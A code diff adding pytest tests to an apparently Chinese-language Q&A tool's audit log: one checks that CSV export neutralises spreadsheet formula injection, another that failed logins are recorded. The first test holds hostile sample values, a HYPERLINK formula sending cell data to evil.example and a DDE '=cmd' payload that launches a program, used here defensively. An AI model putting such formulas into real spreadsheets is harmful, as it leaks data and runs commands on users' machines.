@@ -80,3 +80,27 @@ def test_csv_export_opens_in_excel_with_chinese(tmp_path: Path) -> None:
     assert "[1] 示范县科技创新券管理办法.pdf" in record["引用依据"]
     assert record["未核实数字"] == "3亿元"
     assert record["反馈"] == "👍"
+
+
+def test_formula_payloads_from_documents_or_users_are_neutralised_in_the_csv(tmp_path: Path) -> None:
+    log = audit_log(Settings(home=tmp_path))
+    payload = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
+    answer = Answer(payload, payload, "=cmd|' /C calc'!A0", [], "extractive")
+    log.record(FIRM, "+conv", ["default"], answer)
+    path = log.export_csv(tmp_path / "问答记录.csv")
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        header, row = list(csv.reader(f))
+    record = dict(zip(header, row))
+    assert record["问题"] == "'" + payload  # Excel and WPS show it as text, never run it
+    assert record["回答"] == "'=cmd|' /C calc'!A0"
+    assert record["会话"] == "'+conv"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_login_attempts_are_logged(tmp_path: Path) -> None:
+    log = audit_log(Settings(home=tmp_path))
+    log.login_event("示范企业", "10.0.0.7", "failed")
+    log.login_event("示范企业", "10.0.0.7", "refused")
+    assert [(e.user, e.address, e.outcome) for e in log.login_events()] == [
+        ("示范企业", "10.0.0.7", "failed"), ("示范企业", "10.0.0.7", "refused"),
+    ]  # fmt: skip
